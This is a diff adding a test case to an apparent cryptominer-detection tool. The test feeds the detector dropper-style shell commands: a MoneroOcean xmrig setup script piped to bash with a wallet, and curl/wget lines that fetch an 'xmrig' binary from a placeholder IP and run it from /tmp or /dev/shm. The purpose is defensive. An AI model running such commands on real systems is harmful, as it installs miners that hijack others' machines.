@@ -135,3 +135,25 @@ test("bounded: 5,000 distinct miner processes with a cap of 100 are reported ear
   assert.equal(early.length, 4900);
   assert.equal(late.length, 100);
 });
+
+test("dropper lines from shell histories: an installer script run with a Monero wallet, a miner fetched by name then run", () => {
+  const judge = (cmd: string) => runDetector(minerProcessDetector, [proc(2, { "process.command_line": cmd, "process.name": cmd.split(" ")[0]! })]);
+  const installer = judge(`curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s ${XMR}`);
+  assert.equal(installer.length, 1);
+  assert.equal(installer[0]!.confidence, 0.7);
+  assert.match(String(installer[0]!.facts?.indicators), /downloaded script run with a Monero wallet/);
+
+  const fetched = judge("curl -s http://198.51.100.9/xmrig -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x");
+  assert.equal(fetched.length, 1);
+  assert.equal(fetched[0]!.confidence, 0.75);
+  assert.equal(fetched[0]!.facts?.["miner.name"], "xmrig");
+
+  const archive = judge("wget -q http://198.51.100.9/d/xmrig.tar.gz -O- | tar xz -C /dev/shm && /dev/shm/run");
+  assert.equal(archive[0]?.facts?.["miner.name"], "xmrig", "archive suffix stripped, run from the drop directory");
+
+  // Downloading alone runs nothing; a script piped to a shell without a wallet says nothing of mining; a
+  // wallet in an echo is text.
+  assert.deepEqual(judge("wget http://198.51.100.9/xmrig"), []);
+  assert.deepEqual(judge("curl -s http://198.51.100.9/x | sh"), []);
+  assert.deepEqual(judge(`echo ${XMR} > wallet.txt`), []);
+});
